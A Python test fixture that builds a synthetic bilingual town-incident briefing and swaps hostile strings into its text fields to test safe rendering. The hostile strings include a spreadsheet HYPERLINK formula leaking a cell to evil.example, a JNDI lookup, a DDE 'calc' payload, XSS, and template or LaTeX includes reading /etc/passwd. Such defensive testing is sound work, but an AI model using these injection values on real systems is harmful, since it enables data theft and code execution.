"""A briefing of every kind of block, for the tests of what is printed: long tables, gaps, both languages, hostile words."""

from __future__ import annotations

import json
from dataclasses import fields, is_dataclass, replace
from itertools import cycle
from pathlib import Path

from components.briefing.document import (
    Cell,
    Column,
    Document,
    Fact,
    Note,
    Paragraph,
    Part,
    Picture,
    Printing,
    Sentence,
    Table,
)
from components.drawing.spec import AreaMark, AreaPicture, Chart, Series

CLASSES = ("green", "blue", "yellow", "orange", "red", "none")
ZH = {
    "title": "每日会商简报",
    "town": "示范镇",
    "issuer": "示范镇综合信息指挥室",
    "overall": "总体情况",
    "late": "超期与督办",
    "risk": "五色图与变色网格",
    "voice": "群众诉求",
    "todo": "今日待办",
    "annex": "附件一：各网格办理情况",
    "annex_definitions": "附件二：指标口径",
    "source": "数据截至 2026-11-22 07:30；来源：110、119、数字城管、12345、随手拍；第 418 代",
}
EN = {
    "title": "Daily briefing",
    "town": "Model town",
    "issuer": "Command room of Model town",
    "overall": "Overall",
    "late": "Late cases",
    "risk": "Risk map and what changed",
    "voice": "Citizens' voice",
    "todo": "Today's tasks",
    "annex": "Annex 1: cases by grid",
    "annex_definitions": "Annex 2: definitions",
    "source": "As of 2026-11-22 07:30; feeds: 110, 119, city management, 12345, citizens; generation 418",
}
HOSTILE = (
    '=HYPERLINK("http://evil.example/?q="&A1,"看这里")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '#read("/etc/passwd") #eval("1+1") $x^2$ *粗* _斜_ @cite `raw` \\u{41}',
    "甲\u202e乙\u2066丙\u200b丁\x00\x07\x1b[31m\ud800戊",
    "W" * 400 + "/" + "a" * 300,
    "😀🏳️\u200d🌈👨\u200d👩\u200d👧 مرحبا بالعالم שלום",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s {0} \\input{/etc/passwd} &#x3c;b&#x3e; ]]> <!--",
    "Z" + "\u0301" * 500 + "\n\n\r\n" * 40 + "尾",
    "+cmd|' /C calc'!A0",
    "诉" * 3000,
)


def fact(metric: str, value: float | None, **more) -> Fact:
    """A fact of the sample's day."""
    return Fact(metric=metric, asked="period=2026-11-21", value=value, **more)


def _sentence(text: str, value: float | None = 1.0) -> Sentence:
    return Sentence(text, facts=(fact("incident_count", value, n=689.0),), rule="overall.total")


def chart(kind: str, *, lang: str = "zh") -> Chart:
    """A chart of the kind: a gap, an interval, a target."""
    names = (
        ("110", "119", "数字城管", "12345", "随手拍")
        if lang == "zh"
        else ("110", "119", "City mgmt", "12345", "Citizens")
    )
    days = tuple(f"11-{day:02d}" for day in range(9, 23))
    source = (ZH if lang == "zh" else EN)["source"]
    if kind in ("lines", "band"):
        main = (
            601.0,
            655.0,
            640.0,
            None,
            612.0,
            688.0,
            702.0,
            640.0,
            655.0,
            690.0,
            671.0,
            702.0,
            655.0,
            689.0,
        )
        low = tuple(None if each is None else each - 48 for each in main)
        high = tuple(None if each is None else each + 51 for each in main)
        title = "近 14 天事件数是否高于往常？" if lang == "zh" else "Are there more cases than usual?"
        return Chart(
            kind=kind,
            title=title,
            categories=days,
            series=(Series("实际" if lang == "zh" else "Actual", main, low, high, "accent"),),
            source=source,
            target=660.0,
            alt=title,
        )
    title = "各来源按期办结率" if lang == "zh" else "Closed in time, by feed"
    values = (96.2, 99.1, 88.4, None, 71.5)
    series = [
        Series(
            "昨日" if lang == "zh" else "Yesterday",
            values,
            tuple(_less(values)),
            tuple(_more(values)),
            "accent",
        )
    ]
    if kind != "bars":
        series.append(
            Series("前四周同日" if lang == "zh" else "Same weekday before", (95.0, 98.0, 91.0, 84.0, 80.2))
        )
    return Chart(
        kind=kind,
        title=title,
        categories=names,
        series=tuple(series),
        unit="%",
        source=source,
        target=90.0,
        alt=title,
    )


def _less(values):
    return [None if each is None else each - 4.5 for each in values]


def _more(values):
    return [None if each is None else min(100.0, each + 3.5) for each in values]


def area_picture(lang: str = "zh", count: int = 24) -> AreaPicture:
    """A map of the sample's squares, all classes, some hatched, one without a mark."""
    marks = tuple(
        AreaMark(
            area_id=f"G{index:03d}",
            class_code=CLASSES[index % 6],
            is_hatched=index % 5 == 0,
            label=f"{index}",
        )
        for index in range(1, count)
    )
    words = ("红 高", "橙 较高", "黄 中", "蓝 较低", "绿 低", "无数据")
    words_en = ("Red: high", "Orange: raised", "Yellow: medium", "Blue: lower", "Green: low", "No data")
    legend = tuple(
        zip(
            ("red", "orange", "yellow", "blue", "green", "none"),
            words if lang == "zh" else words_en,
            strict=True,
        )
    )
    title = "各网格综合风险等级" if lang == "zh" else "Risk class of every grid"
    return AreaPicture(
        title=title,
        level="grid",
        marks=marks,
        legend=legend,
        source=(ZH if lang == "zh" else EN)["source"],
        alt=title,
    )


def write_geo(folder: Path, count: int = 24) -> Path:
    """Writes grid.json of `count` squares, six in a row."""
    features = []
    for index in range(1, count + 1):
        left, low = 120.0 + (index - 1) % 6 * 0.01, 30.0 + (index - 1) // 6 * 0.01
        ring = [[left, low], [left + 0.01, low], [left + 0.01, low + 0.01], [left, low + 0.01], [left, low]]
        shape = {"type": "Polygon", "coordinates": [ring]}
        features.append({"type": "Feature", "properties": {"area_id": f"G{index:03d}"}, "geometry": shape})
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "grid.json").write_text(
        json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8"
    )
    return folder


def long_table(lang: str = "zh", rows: int = 80) -> Table:
    """A table of several pages with a cell of every kind and some unknown ones."""
    zh = lang == "zh"
    columns = (
        Column(name="网格" if zh else "Grid"),
        Column(name="事件数" if zh else "Cases", kind="number"),
        Column(name="按期办结率" if zh else "Closed in time", kind="pct", decimals=1),
        Column(name="处置时长中位数（分钟）" if zh else "Median handling (min)", kind="minutes", decimals=1),
        Column(name="最近一件" if zh else "Latest", kind="instant"),
        Column(name="到期日" if zh else "Due", kind="date"),
        Column(name="补贴（元）" if zh else "Paid (yuan)", kind="yuan"),
        Column(name="责任岗位" if zh else "Duty post"),
    )
    body = []
    for index in range(1, rows + 1):
        rate = None if index % 9 == 0 else 60.0 + index % 40
        body.append(
            (
                Cell(f"G{index:03d}", f"第{index:03d}网格" if zh else f"Grid {index:03d}"),
                Cell(1000 + index, f"{1000 + index:,}", fact("incident_count", 1000.0 + index)),
                Cell(
                    rate, "—" if rate is None else f"{rate:.1f}%", fact("closure_pct", rate, n=float(index))
                ),
                Cell(12.34 * index, f"{12.34 * index:.1f}"),
                Cell("2026-11-22 06:05:00", "11-22 06:05"),
                Cell("2026-11-25", "11-25"),
                Cell(1234567 + index, f"{1234567 + index:,}"),
                Cell(
                    "综合行政执法队值班岗" if zh else "Duty officer, enforcement",
                    "综合行政执法队值班岗" if zh else "Duty officer, enforcement",
                ),
            )
        )
    note = (
        "n 为应办结数；“—”为样本不足或无数据。"
        if zh
        else "n counts cases that are due; “—”: too few or unknown."
    )
    return Table(key="grids", title=(ZH if zh else EN)["annex"], columns=columns, rows=tuple(body), note=note)


def definitions_table(lang: str = "zh") -> Table:
    """What is meant, in long words."""
    zh = lang == "zh"
    meaning = "到期且已办结的事件占全部到期事件的比例；超期未办结的计入分母，延期按批准后的时限。" * 2
    meaning_en = (
        "Cases closed by their limit out of all cases whose limit has passed; open late cases count. " * 2
    )
    names = ("指标", "含义", "单位", "版本") if zh else ("Metric", "Meaning", "Unit", "Version")
    rows = tuple(
        (
            Cell(f"按期办结率 {index}", f"按期办结率 {index}"),
            Cell(meaning if zh else meaning_en, meaning if zh else meaning_en),
            Cell("%", "%"),
            Cell("3", "3"),
        )
        for index in range(1, 9)
    )
    title = (ZH if zh else EN)["annex_definitions"]
    return Table(
        key="definitions", title=title, columns=tuple(Column(name=name) for name in names), rows=rows
    )


def sample_document(lang: str = "zh", rows: int = 80) -> Document:
    """The whole sample."""
    zh, words = lang == "zh", ZH if lang == "zh" else EN
    first = (
        "昨日全镇共受理事件 689 件，合并重复后比前四周同日均值多 34 件（+5.2%，95% 区间 −1.1% 至 +11.9%），不能说明有变化。"
        if zh
        else "The town took 689 cases, 34 more than on the same weekdays (+5.2%, interval −1.1% to +11.9%): no change shown. "
    )
    second = (
        "30 分钟内处置 612 件中的 541 件（88.4%，区间 85.6%–90.7%），未达 90% 目标。"
        if zh
        else "541 of 612 cases were dealt with within 30 minutes (88.4%, interval 85.6%–90.7%), below the aim of 90%. "
    )
    item = (
        "综合行政执法队：督办 3 件，最久者已超期 5 天 4 小时。"
        if zh
        else "Enforcement team: 3 cases to escalate, the oldest 5 d 4 h late."
    )
    quote = (
        "群众原话：“楼下烧烤摊油烟大，反映三次没人来。”"
        if zh
        else "In their words: “smoke from the stall below, told three times, nobody came.”"
    )
    note = (
        "口径见附件二；样本少于 10 件的不作比较。"
        if zh
        else "Definitions in annex 2; fewer than 10 cases are not compared."
    )
    text = Paragraph((_sentence(first, 689.0), _sentence(second, 88.4), _sentence(second, 88.4)))
    items = tuple(Paragraph((_sentence(item),), kind="item") for _ in range(4))
    small = Table(
        key="late",
        title="超期最久的事件" if zh else "The oldest late cases",
        columns=long_table(lang).columns[:4],
        rows=tuple(row[:4] for row in long_table(lang).rows[:6]),
        note=note,
    )
    parts = (
        Part(
            code="overall",
            number="一" if zh else "1",
            title=words["overall"],
            blocks=(
                text,
                Picture("trend", chart("band", lang=lang)),
                Paragraph((_sentence(note),), kind="note"),
            ),
        ),
        Part(
            code="late",
            number="二" if zh else "2",
            title=words["late"],
            blocks=(text, *items, small, Picture("rates", chart("bars", lang=lang))),
        ),
        Part(
            code="risk",
            number="三" if zh else "3",
            title=words["risk"],
            blocks=(text, Picture("map", area_picture(lang))),
        ),
        Part(
            code="voice",
            number="四" if zh else "4",
            title=words["voice"],
            blocks=(
                text,
                Paragraph((_sentence(quote),), kind="quote"),
                Picture("both", chart("columns", lang=lang)),
                Picture("stack", chart("stacked", lang=lang)),
            ),
        ),
        Part(code="todo", number="五" if zh else "5", title=words["todo"], blocks=()),
        Part(code="annex_grids", number="", title=words["annex"], blocks=(long_table(lang, rows),)),
        Part(
            code="annex_definitions",
            number="",
            title=words["annex_definitions"],
            blocks=(definitions_table(lang),),
        ),
    )
    return Document(
        edition_code="daily",
        language=lang,
        title=words["title"],
        town=words["town"],
        issuer=words["issuer"],
        since_date="2026-11-21",
        until_date="2026-11-22",
        as_of="2026-11-22 07:30",
        generation=418,
        digest="9f2c" * 16,
        parts=parts,
        anchor="18211 · 7ac1e0d2",
        is_synthetic=True,
    )


def sample_printing(lang: str = "zh") -> Printing:
    """People's words, a struck sentence, a release, a reader."""
    zh = lang == "zh"
    return Printing(
        notes=(
            Note(
                part_code="overall",
                text="已与综合执法队核实，周末仍有两件复查。" if zh else "Checked with enforcement.",
                actor_name="王某" if zh else "Wang",
                noted_at="2026-11-22 07:41",
                sentence=0,
            ),
            Note(
                part_code="late",
                text="",
                actor_name="李某" if zh else "Li",
                noted_at="2026-11-22 07:45",
                sentence=1,
                is_struck=True,
            ),
            Note(
                part_code="todo",
                text="请各社区十点前回报。" if zh else "Report by ten.",
                actor_name="王某" if zh else "Wang",
                noted_at="2026-11-22 07:50",
            ),
        ),
        released_by="王某" if zh else "Wang",
        released_at="2026-11-22 08:00",
        watermark="张三 2026-11-22 08:05" if zh else "Zhang San 2026-11-22 08:05",
    )


KEPT = frozenset(
    "kind code key language edition_code since_date until_date colour_key level area_id class_code part_code "
    "department_id asked metric by flag rule digest legend".split()
)


def hostile(model, words: str, *more: str):
    """The same document with these words, taken in turn, in every field of text that is not a code, date or key."""
    return _hostile_value(model, cycle((words, *more)))


def _hostile_value(value, words):
    if isinstance(value, str):
        return next(words)
    if isinstance(value, tuple):
        return tuple(_hostile_value(each, words) for each in value)
    if not is_dataclass(value):
        return value
    names = [field.name for field in fields(value) if field.name not in KEPT]
    return replace(value, **{name: _hostile_value(getattr(value, name), words) for name in names})
